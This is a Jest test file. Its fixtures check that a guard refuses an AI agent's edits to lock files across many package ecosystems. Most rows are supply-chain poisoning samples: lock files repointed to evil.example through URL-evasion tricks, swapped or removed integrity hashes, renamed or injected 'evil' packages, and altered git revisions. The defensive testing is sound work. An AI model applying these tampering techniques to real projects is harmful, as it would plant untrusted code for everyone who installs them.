import { describe } from "@jest/globals";
import { refuses, type Row } from "./agent-rows.js";

const npmLock = (entries: Record<string, object>, root: object = { a: "^1.0.0" }): string =>
  `${JSON.stringify({ lockfileVersion: 3, packages: { "": { dependencies: root }, ...entries } }, null, 2)}\n`;
const a = (more: object = {}): object => ({
  version: "1.0.0",
  resolved: "https://registry.npmjs.org/a/-/a-1.0.0.tgz",
  integrity: "sha512-old",
  ...more,
});
const lockA = npmLock({ "node_modules/a": a() });
const changedA = (more: object): string => npmLock({ "node_modules/a": a(more) });
const yarn = (resolved: string, integrity = "sha512-old"): string =>
  `# yarn lockfile v1\n\n\na@^1.0.0:\n  version "1.0.0"\n  resolved "${resolved}"\n  integrity ${integrity}\n`;
const berry = (resolution: string, checksum: string): string =>
  `__metadata:\n  version: 8\n\n"a@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "${resolution}"\n  checksum: ${checksum}\n`;
const pnpm = (resolution: string): string =>
  `lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a:\n        specifier: ^1.0.0\n        version: 1.0.0\npackages:\n  a@1.0.0:\n    resolution: ${resolution}\n`;
const cargoLock = (source: string, checksum: string): string =>
  `version = 3\n\n[[package]]\nname = "shop"\nversion = "0.1.0"\ndependencies = ["a"]\n\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "${source}"\nchecksum = "${checksum}"\n`;
const CRATES = "registry+https://github.com/rust-lang/crates.io-index";
const poetry = (hash: string): string =>
  `[[package]]\nname = "a"\nversion = "1.0.0"\nfiles = [{file = "a-1.0.0.tar.gz", hash = "sha256:${hash}"}]\n`;
const uv = (url: string, hash = "sha256:old"): string =>
  `version = 1\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = { registry = "https://pypi.org/simple" }\nwheels = [{ url = "${url}", hash = "${hash}" }]\n`;
const gems = (remote: string, revision = ""): string =>
  `${revision === "" ? "GEM" : "GIT"}\n  remote: ${remote}\n${revision === "" ? "" : `  revision: ${revision}\n`}  specs:\n    a (1.0.0)\n\nDEPENDENCIES\n  a\n`;
const composerLock = (reference: string, repo = "acme/a"): string =>
  `${JSON.stringify({ packages: [{ name: "acme/a", version: "1.0.0", dist: { type: "zip", url: `https://api.github.com/repos/${repo}/zipball/${reference}`, reference } }] }, null, 2)}\n`;

const locked = (after: string): Row => ["package-lock.json", lockA, after, "lockfile-source"];

const locks: Row[] = [
  locked(lockA.replace("https://registry.npmjs.org", "https:\\/\\/evil.example")),
  locked(lockA.replace("https://registry.npmjs.org", "\\u0068ttps://evil.example")),
  locked(changedA({ resolved: "//evil.example/a.tgz" })),
  locked(changedA({ resolved: "https:\\\\evil.example\\a.tgz" })),
  locked(changedA({ resolved: "https:/evil.example/a.tgz" })),
  locked(changedA({ resolved: "HTTPS://EVIL.example/a.tgz" })),
  locked(changedA({ resolved: "ht\ntps://evil.example/a.tgz" })),
  locked(changedA({ resolved: "https://evil.example/a b.tgz" })),
  locked(changedA({ resolved: "https://registry.npmjs.org@evil.example/a.tgz" })),
  locked(changedA({ resolved: "https://registry.npmjs.org:8443/a/-/a-1.0.0.tgz" })),
  locked(
    changedA({ resolved: "git+ssh://git@github.com/evil/a.git#1111111111111111111111111111111111111111" }),
  ),
  locked(changedA({ resolved: "file:evil.tgz" })),
  locked(changedA({ integrity: "sha512-new" })),
  locked(changedA({ integrity: undefined })),
  locked(changedA({ resolved: "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz" })),
  locked(
    changedA({
      version: "1.0.1",
      integrity: "sha512-new",
      resolved: "https://registry.npmjs.org/evil/-/evil-1.0.1.tgz",
    }),
  ),
  locked(
    changedA({
      version: "1.0.1",
      integrity: "sha512-new",
      resolved: "https://registry.npmjs.org/a/-/a-0.0.1.tgz",
    }),
  ),
  locked(
    changedA({
      version: "1.0.1",
      integrity: undefined,
      resolved: "https://registry.npmjs.org/a/-/a-1.0.1.tgz",
    }),
  ),
  locked(
    changedA({
      name: "evil",
      version: "1.0.1",
      integrity: "sha512-new",
      resolved: "https://registry.npmjs.org/evil/-/evil-1.0.1.tgz",
    }),
  ),
  locked(changedA({ dependencies: { evil: "^1.0.0" } })),
  locked(
    npmLock({
      "node_modules/a": a(),
      "node_modules/evil": {
        version: "1.0.0",
        resolved: "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz",
        integrity: "sha512-x",
      },
    }),
  ),
  locked(lockA.replace('"version": "1.0.0",', '"version": "1.0.0",\n      "version": "2.0.0",')),
  [
    "package-lock.json",
    npmLock({ "node_modules/a": a({ resolved: "https://npm.acme.example/a/-/a-1.0.0.tgz" }) }),
    npmLock({
      "node_modules/a": a({
        version: "9.9.9",
        resolved: "https://registry.npmjs.org/a/-/a-9.9.9.tgz",
        integrity: "sha512-n",
      }),
    }),
    "lockfile-source",
  ],
  ["npm-shrinkwrap.json", lockA, changedA({ integrity: "sha512-new" }), "lockfile-source"],
  [
    "yarn.lock",
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"),
    yarn("https://evil.example/a/-/a-1.0.0.tgz#abc"),
    "lockfile-source",
  ],
  [
    "yarn.lock",
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"),
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#def"),
    "lockfile-source",
  ],
  [
    "yarn.lock",
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"),
    yarn("https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc", "sha512-new"),
    "lockfile-source",
  ],
  [
    "yarn.lock",
    yarn("https://codeload.github.com/o/a/tar.gz/1111111111"),
    yarn("https://codeload.github.com/o/a/tar.gz/2222222222"),
    "lockfile-source",
  ],
  ["yarn.lock", berry("a@npm:1.0.0", "10/old"), berry("a@npm:1.0.0", "10/new"), "lockfile-source"],
  ["yarn.lock", berry("a@npm:1.0.0", "10/old"), berry("evil@npm:1.0.0", "10/old"), "lockfile-source"],
  [
    "yarn.lock",
    berry("a@npm:1.0.0", "10/old"),
    berry("a@https://evil.example/a.tgz", "10/old"),
    "lockfile-source",
  ],
  ["pnpm-lock.yaml", pnpm("{integrity: sha512-old}"), pnpm("{integrity: sha512-new}"), "lockfile-source"],
  [
    "pnpm-lock.yaml",
    pnpm("{integrity: sha512-old}"),
    pnpm("{integrity: sha512-old, tarball: 'https://evil.example/a.tgz'}"),
    "lockfile-source",
  ],
  ["Cargo.lock", cargoLock(CRATES, "old"), cargoLock(CRATES, "new"), "lockfile-source"],
  [
    "Cargo.lock",
    cargoLock(CRATES, "old"),
    cargoLock("registry+https://evil.example/index", "old"),
    "lockfile-source",
  ],
  [
    "Cargo.lock",
    cargoLock("git+https://github.com/o/a#1111111111111111111111111111111111111111", ""),
    cargoLock("git+https://github.com/o/a#2222222222222222222222222222222222222222", ""),
    "lockfile-source",
  ],
  ["poetry.lock", poetry("old"), poetry("new"), "lockfile-source"],
  [
    "uv.lock",
    uv("https://files.pythonhosted.org/a-1.0.0.whl"),
    uv("https://evil.example/a-1.0.0.whl"),
    "lockfile-source",
  ],
  [
    "uv.lock",
    uv("https://files.pythonhosted.org/a-1.0.0.whl"),
    uv("https://files.pythonhosted.org/a-1.0.0.whl", "sha256:new"),
    "lockfile-source",
  ],
  [
    "Pipfile.lock",
    '{"default": {"a": {"hashes": ["sha256:1"], "version": "==1.0"}}}\n',
    '{"default": {"a": {"hashes": ["sha256:2"], "version": "==1.0"}}}\n',
    "lockfile-source",
  ],
  ["Gemfile.lock", gems("https://rubygems.org/"), gems("https://evil.example/"), "lockfile-source"],
  [
    "Gemfile.lock",
    gems("https://github.com/o/a.git", "1".repeat(40)),
    gems("https://github.com/o/a.git", "2".repeat(40)),
    "lockfile-source",
  ],
  ["composer.lock", composerLock("1".repeat(40)), composerLock("2".repeat(40)), "lockfile-source"],
  ["composer.lock", composerLock("1".repeat(40)), composerLock("1".repeat(40), "evil/a"), "lockfile-source"],
  ["go.sum", "a.example/b v1.0.0 h1:old=\n", "a.example/b v1.0.0 h1:new=\n", "lockfile-source"],
  [
    "go.sum",
    "a.example/b v1.0.0 h1:old=\n",
    "a.example/b v1.0.0 h1:old=\na.example/b v1.0.0 h1:new=\n",
    "lockfile-source",
  ],
  [
    "packages.lock.json",
    '{"dependencies": {"net8.0": {"A": {"resolved": "1.0.0", "contentHash": "old"}}}}\n',
    '{"dependencies": {"net8.0": {"A": {"resolved": "1.0.0", "contentHash": "new"}}}}\n',
    "lockfile-source",
  ],
  [
    "pubspec.lock",
    "packages:\n  a:\n    description: {name: a, sha256: old, url: 'https://pub.dev'}\n    version: '1.0.0'\n",
    "packages:\n  a:\n    description: {name: a, sha256: new, url: 'https://pub.dev'}\n    version: '1.0.0'\n",
    "lockfile-source",
  ],
  [
    "package-lock.json",
    lockA,
    changedA({
      version: "1.0.1",
      integrity: "sha512-n",
      resolved: "https://registry.npmjs.org/a/-/a-1.0.1.tgz",
    }),
    "allowed-files",
    { category: "test_failure" },
  ],
];

describe("a lock file that an agent changes is refused", () => refuses(locks));
